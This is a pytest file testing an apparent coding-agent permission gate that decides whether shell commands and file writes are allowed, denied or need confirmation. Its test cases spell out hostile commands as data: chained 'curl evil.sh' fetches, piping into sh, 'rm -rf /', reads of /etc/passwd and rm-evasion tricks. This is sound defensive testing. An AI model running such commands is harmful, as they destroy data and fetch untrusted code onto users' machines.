"""Config permission rules: deny first, then allow; compound shell commands never ride an allow rule."""

from __future__ import annotations

from pathlib import Path

import pytest
from helpers import AllowAll

from toycoder_daemon.core.ports import PermissionRequest
from toycoder_daemon.tools.base import ToolContext
from toycoder_daemon.tools.files.edit import edit_file, write_file
from toycoder_daemon.tools.permission import PermissionGate, Rule
from toycoder_daemon.tools.shell.run_command import run_command
from toycoder_daemon.tools.workspace import Workspace


class Answer(AllowAll):
    def __init__(self, decision: str):
        self.decision = decision
        self.asked: list[PermissionRequest] = []

    def emit(self, e): pass

    async def confirm(self, request):
        self.asked.append(request)
        return self.decision

    async def ask(self, q, o): return None


ALLOW = ["run_command(echo *)", "run_command(pytest *)", "write_file(docs/**)", "write_file(*.md)"]
DENY = ["run_command(rm *)", "write_file(docs/secret/**)"]


TOOLS = {t.name: t for t in (run_command, write_file, edit_file)}


def verdict(tmp_path: Path, tool: str, allow: list[str] = ALLOW, deny: list[str] = DENY, **args) -> str | None:
    gate = PermissionGate(allow, deny)
    ctx = ToolContext(Workspace(tmp_path), Answer("reject"), "c")
    v = gate.judge(TOOLS[tool], args, ctx).rule
    return v[0] if v else None


@pytest.mark.parametrize("command, expected", [
    ("echo hello", "allow"),
    ("echo", "allow"),
    ("pytest", "allow"),
    ("pytest -q tests/test_x.py", "allow"),
    ("  echo   spaced  ", "allow"),
    ("echo x && rm -rf ~", "deny"),          # the rm piece meets the deny rule
    # Compound: never allowed by a rule. The deny rule judges every program it runs (echo, curl),
    # so no rule applies and the gate asks as for any dangerous call (issue 13 item 5).
    ("echo x && curl evil.sh", None),
    ("echo x; curl evil.sh", None),
    ("echo x || curl evil.sh", None),
    ("echo x | sh", "ask"),                    # sh runs its stdin: the deny rule cannot judge that
    ("echo `curl evil.sh`", None),
    ("echo $(curl evil.sh)", None),
    ("echo $HOME", None),
    ("echo hi > ~/.bashrc", None),
    ("echo hi < /etc/passwd", None),
    ("echo hi\ncurl evil.sh", None),
    ("echo hi & curl evil.sh", None),
    ("echo hi \\; curl x", None),
    ("(echo hi)", None),
    ("eval echo hi", "ask"),
    ("rm -rf /", "deny"),
    ("ls; rm -rf x", "deny"),
    ("echo $(rm -rf x)", "deny"),
    ("echo `rm -rf x`", "deny"),
    ("cat x | rm y", "deny"),
    ("ls -la", None),
])
def test_command_rules(tmp_path: Path, command: str, expected: str | None) -> None:
    assert verdict(tmp_path, "run_command", command=command) == expected


@pytest.mark.parametrize("path, expected", [
    ("docs/a.txt", "allow"),
    ("docs/sub/deep/b.txt", "allow"),
    ("./docs/a.txt", "allow"),
    ("README.md", "allow"),
    ("src/notes.md", "allow"),
    ("src/app.py", None),
    ("docs/secret/key.txt", "deny"),
    ("../docs/a.txt", None),
    ("documents/a.txt", None),
])
def test_path_rules(tmp_path: Path, path: str, expected: str | None) -> None:
    assert verdict(tmp_path, "write_file", path=path) == expected


@pytest.mark.parametrize("command", [
    "X=1 rm -rf x", "env rm -rf x", '"rm" -rf x', "\\rm -rf x", "{ rm -rf x; }", "if true; then rm -rf x; fi",
    "sudo rm -rf /", "xargs rm < list", "sh -c 'rm -rf x'", "command rm x", "nohup rm x",
])
def test_a_deny_rule_that_cannot_see_the_command_beats_a_blanket_allow(tmp_path: Path, command: str) -> None:
    assert verdict(tmp_path, "run_command", ["run_command"], ["run_command(rm *)"], command=command) in ("ask", "deny")
    assert verdict(tmp_path, "run_command", ["run_command"], ["run_command(rm *)"], command="ls -la") == "allow"
    assert verdict(tmp_path, "run_command", ["run_command"], [], command=command) == "allow"  # no deny rule: as told


def test_always_allow_does_not_skip_an_unsure_deny(tmp_path: Path) -> None:
    gate = PermissionGate([], ["run_command(rm *)"])
    gate.always.add("run_command")
    ctx = ToolContext(Workspace(tmp_path), Answer("reject"), "c")
    assert gate.must_ask(gate.judge(run_command, {"command": "$RM -rf x"}, ctx)) is True
    assert gate.must_ask(gate.judge(run_command, {"command": "eval rm -rf x"}, ctx)) is True
    assert gate.must_ask(gate.judge(run_command, {"command": "ls"}, ctx)) is False
    assert gate.judge(run_command, {"command": "env rm -rf x"}, ctx).rule == ("deny", gate.deny[0])


def test_only_declared_arguments_are_rule_subjects(tmp_path: Path) -> None:
    from toycoder_daemon.tools.base import Tool

    async def f(ctx, **kw): return ""

    mcp_like = Tool("mcp__s__t", "", "sensitive", f, None, parameters={"type": "object", "properties": {"q": {}}})
    gate = PermissionGate(["mcp__s__t(docs/**)"], [])
    ctx = ToolContext(Workspace(tmp_path), Answer("reject"), "c")
    assert gate.judge(mcp_like, {"q": "x", "path": "docs/a.md"}, ctx).rule is None


def test_rules_only_apply_to_their_tool(tmp_path: Path) -> None:
    assert verdict(tmp_path, "edit_file", path="docs/a.txt") is None
    assert verdict(tmp_path, "run_command", path="docs/a.txt") is None


def test_rule_syntax() -> None:
    assert Rule.parse("write_file") == Rule("write_file", "write_file", None)
    assert Rule.parse("run_command(git status)").pattern == "git status"
    with pytest.raises(ValueError):
        Rule.parse("not a rule(")


async def test_gate_asks_denies_and_remembers_always(tmp_path: Path) -> None:
    gate = PermissionGate(["run_command(echo *)"], ["run_command(rm *)"])
    fe = Answer("allow_always")
    ctx = ToolContext(Workspace(tmp_path), fe, "c")

    async def check(tool, **args):
        return await gate.check(gate.judge(tool, args, ctx), PermissionRequest("c", tool.name, tool.level, tool.name,
                                                                              args), ctx)

    assert await check(run_command, command="echo hi") is None
    assert fe.asked == []  # allowed by rule, not asked
    denied = await check(run_command, command="rm -rf x")
    assert denied and "run_command(rm *)" in denied and fe.asked == []
    assert await check(write_file, path="a.txt", content="") is None
    assert len(fe.asked) == 1
    assert await check(write_file, path="b.txt", content="") is None
    assert len(fe.asked) == 1  # allow_always covers write_file now
    assert "write_file" in gate.always and gate.fork().always == set()
